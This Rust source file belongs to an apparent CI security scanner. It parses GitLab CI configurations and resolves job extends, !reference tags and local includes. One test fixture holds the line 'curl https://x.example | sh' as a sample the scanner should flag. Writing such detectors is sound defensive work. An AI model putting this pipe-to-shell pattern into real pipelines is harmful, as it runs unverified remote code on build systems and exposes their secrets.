//! GitLab CI (<https://docs.gitlab.com/ci/yaml/>): jobs with what they extend, what they reference and
//! what local includes say.

use std::{
    collections::{HashMap, HashSet},
    sync::Arc,
};

use casemate_document::{
    Limits, Node, Value as Written,
    yaml::{self, Dialect},
};

use super::{Content, Draft, Reader};
use crate::{Attr, Fact, File, Item, Language, Map, Origin, Resource, Value, World};

pub(super) const READER: Reader = Reader { read, gather };

/// All of a configuration.
pub(crate) const PIPELINE: &str = "gitlab-pipeline";

/// A job, with everything that it extends.
pub(crate) const JOB: &str = "gitlab-job";

const KIND: &str = "gitlab";

fn read(file: &Arc<File>) -> Option<Draft> {
    let path = file.subject.path.as_str();
    let name = path.rsplit('/').next().unwrap_or(path);
    if !name.ends_with(".yml") && !name.ends_with(".yaml") {
        return None;
    }
    let is_named = name.ends_with("gitlab-ci.yml") || name.ends_with("gitlab-ci.yaml");
    if !is_named && (!file.text.contains("script:") || super::is_manifest(file)) {
        return None;
    }
    let stream = yaml::read(&file.text, Dialect::MERGING, &Limits::default());
    // A header with the inputs may stand before the configuration.
    let mut roots = stream.documents.iter().map(|document| &document.root);
    let first = roots.next();
    let (header, root) = match first {
        Some(header) if header.get("spec").is_some() => (Some(header), roots.next()),
        other => (None, other),
    };
    if !is_named && !root.is_some_and(has_jobs) {
        return None;
    }
    let root = root.map(|root| {
        let root = value(root, file);
        match header {
            Some(header) => over(&Attr::of_node(header, file), &root),
            None => root,
        }
    });
    Some(Draft {
        file: file.clone(),
        content: Content::Document(KIND, root, stream.error),
    })
}

/// Whether it looks like jobs, and not like what other programs have scripts in.
fn has_jobs(root: &Node) -> bool {
    let is_script = |node: &Node| {
        matches!(
            node.value,
            Written::List(_) | Written::String(_) | Written::Tagged(_)
        )
    };
    let is_job = |job: &Node| job.get("script").is_some_and(is_script);
    let others = [
        "apiVersion",
        "jobs",
        "services",
        "on",
        "language",
        "trigger",
        "pool",
        "steps",
        "runs",
        "pipelines",
    ];
    !others.iter().any(|key| root.get(key).is_some())
        && root.entries().iter().any(|entry| is_job(&entry.value))
}

/// As [`Attr::of_node`], with `!reference` as a map under that key.
fn value(node: &Node, file: &Arc<File>) -> Attr {
    let origin = Origin::new(file, node.span);
    let value = match &node.value {
        Written::Tagged(tagged) if &*tagged.0 == REFERENCE => {
            let item = Item {
                key: REFERENCE.into(),
                place: origin.clone(),
                value: Attr::of_node(&tagged.1, file),
            };
            Value::Map(Arc::new(Map::new(vec![item])))
        }
        Written::Tagged(tagged) => return value(&tagged.1, file),
        Written::List(items) => Value::List(items.iter().map(|it| value(it, file)).collect()),
        Written::Map(map) => {
            let items = map.entries().iter().map(|entry| Item {
                key: entry.key.clone(),
                place: Origin::new(file, entry.key_span),
                value: value(&entry.value, file),
            });
            Value::Map(Arc::new(Map::new(items.collect())))
        }
        _ => return Attr::of_node(node, file),
    };
    Attr::new(value, origin)
}

fn gather(drafts: &[Draft], world: &mut World) {
    let mut roots: HashMap<&str, &Attr> = HashMap::new();
    for draft in drafts {
        if let Content::Document(KIND, Some(root), error) = &draft.content {
            roots.insert(draft.file.subject.path.as_str(), root);
            if let Some(error) = error {
                world.missing(&draft.file, error.span, error.message.clone());
            }
        }
    }
    let included: HashSet<String> = roots
        .iter()
        .flat_map(|(path, root)| includes(path, root))
        .collect();
    for draft in drafts {
        let path = draft.file.subject.path.as_str();
        let Some(root) = roots.get(path).filter(|_| !included.contains(path)) else {
            continue;
        };
        let whole = with_includes(path, root, &roots, 0);
        let pipeline = |kind: &str, address: String, body: Attr| Resource {
            language: Language::GitlabCi,
            kind: kind.into(),
            address: address.into(),
            body,
        };
        world.add(pipeline(PIPELINE, path.to_owned(), whole.clone()));
        let default = whole.get("default").ok().cloned();
        for item in whole.entries() {
            let is_job = !KEYWORDS.contains(&&*item.key) && !item.key.starts_with('.');
            if !is_job || !matches!(item.value.value, Value::Map(_)) {
                continue;
            }
            let job = extended(&item.value, &whole, 0);
            let job = default
                .as_ref()
                .map_or_else(|| job.clone(), |it| over(it, &job));
            let job = referenced(&job, &whole, 0);
            world.add(pipeline(JOB, format!("{path}/{}", item.key), job));
        }
    }
}

/// The local files that a configuration includes.
fn includes(path: &str, root: &Attr) -> Vec<String> {
    let Fact::Known(include) = root.get("include") else {
        return Vec::new();
    };
    let one = std::slice::from_ref(include);
    let list = match include.items() {
        [] => one,
        items => items,
    };
    let local = |item: &Attr| {
        let name = item
            .get("local")
            .and_then(Attr::text)
            .or_else(|| item.text())
            .ok()?;
        let is_local = !name.contains("://");
        is_local.then(|| super::compose::beside(path, name.trim_start_matches('/')))
    };
    list.iter().filter_map(local).collect()
}

fn with_includes(path: &str, root: &Attr, roots: &HashMap<&str, &Attr>, depth: usize) -> Attr {
    let mut whole: Option<Attr> = None;
    for name in includes(path, root) {
        let Some(file) = roots.get(name.as_str()).filter(|_| depth < MAX_DEPTH) else {
            continue;
        };
        let file = with_includes(&name, file, roots, depth + 1);
        whole = Some(whole.map_or(file.clone(), |below| over(&below, &file)));
    }
    whole.map_or_else(|| root.clone(), |below| over(&below, root))
}

fn extended(job: &Attr, whole: &Attr, depth: usize) -> Attr {
    let Fact::Known(extends) = job.get("extends") else {
        return job.clone();
    };
    let mut names: Vec<String> = extends.text().ok().into_iter().collect();
    names.extend(extends.items().iter().filter_map(|item| item.text().ok()));
    let mut below: Option<Attr> = None;
    for name in names {
        match whole.get(&name).ok().filter(|_| depth < MAX_DEPTH) {
            Some(base) => {
                let base = extended(base, whole, depth + 1);
                below = Some(below.map_or(base.clone(), |under| over(&under, &base)));
            }
            None => {
                return super::compose::open(
                    job,
                    &format!("{name}, which it extends, was not read"),
                );
            }
        }
    }
    below.map_or_else(|| job.clone(), |below| over(&below, job))
}

/// With what `!reference` names in its place.
fn referenced(attr: &Attr, whole: &Attr, depth: usize) -> Attr {
    let value = match &attr.value {
        Value::Map(map) => {
            if let Some(reference) = map.item(REFERENCE) {
                let names: Vec<String> = reference
                    .value
                    .items()
                    .iter()
                    .filter_map(|it| it.text().ok())
                    .collect();
                let found = names.iter().try_fold(whole, |at, name| at.get(name).ok());
                return match found.filter(|_| depth < MAX_DEPTH) {
                    Some(found) => referenced(found, whole, depth + 1),
                    None => Attr::unknown(
                        format!("{} was not read", names.join(".")),
                        attr.origin.clone(),
                    ),
                };
            }
            let items = map.items().iter().map(|item| Item {
                value: referenced(&item.value, whole, depth),
                ..item.clone()
            });
            let mut filled = Map::new(items.collect());
            filled.open.clone_from(&map.open);
            Value::Map(Arc::new(filled))
        }
        Value::List(items) => Value::List(
            items
                .iter()
                .map(|it| referenced(it, whole, depth))
                .collect(),
        ),
        other => other.clone(),
    };
    Attr {
        value,
        ..attr.clone()
    }
}

/// `top` over `base`, maps together; lists are replaced.
fn over(base: &Attr, top: &Attr) -> Attr {
    let (Value::Map(below), Value::Map(above)) = (&base.value, &top.value) else {
        return top.clone();
    };
    if above.item(REFERENCE).is_some() {
        return top.clone();
    }
    let mut items = below.items().to_vec();
    for item in above.items() {
        let value = match below.item(&item.key) {
            Some(under) => over(&under.value, &item.value),
            None => item.value.clone(),
        };
        items.push(Item {
            value,
            ..item.clone()
        });
    }
    let mut map = Map::new(items);
    map.open = above.open.clone().or_else(|| below.open.clone());
    Attr::new(Value::Map(Arc::new(map)), top.origin.clone())
}

const REFERENCE: &str = "!reference";
const MAX_DEPTH: usize = 10;

/// Keys of a configuration that are no jobs.
const KEYWORDS: &[&str] = &[
    "after_script",
    "before_script",
    "cache",
    "default",
    "image",
    "include",
    "services",
    "spec",
    "stages",
    "variables",
    "workflow",
];

#[cfg(test)]
mod tests {
    use crate::survey::tests::survey;

    #[test]
    fn a_job_has_what_it_extends_references_and_includes() {
        let root = b"include: /ci/base.yml\ntrain:\n  extends: .base\n  script:\n  - !reference [.setup, script]\n  - echo\n";
        let base = b".base:\n  image: python:latest\n.setup:\n  script:\n  - curl https://x.example | sh\n";
        let outcomes = survey(&[(".gitlab-ci.yml", root), ("ci/base.yml", base)]);
        let findings = outcomes.iter().flat_map(|it| &it.findings);
        let found: Vec<String> = findings
            .map(|it| format!("{}@{}", it.rule, it.location))
            .collect();
        assert!(
            found.contains(&"CM-GLC-003@ci/base.yml:2:10".to_owned()),
            "{found:?}"
        );
        assert!(
            found.contains(&"CM-GLC-009@ci/base.yml:5:5".to_owned()),
            "{found:?}"
        );
    }

    #[test]
    fn what_was_not_read_leaves_a_job_open() {
        let root = b"include:\n  project: a/b\n  ref: 0123456789abcdef0123456789abcdef01234567\ntrain:\n  extends: .base\n  script: [echo]\n";
        let outcomes = survey(&[(".gitlab-ci.yml", root)]);
        let reason = outcomes[0].reason.as_deref().unwrap_or_default();
        assert!(
            reason.contains(".base, which it extends, was not read"),
            "{reason}"
        );
    }
}
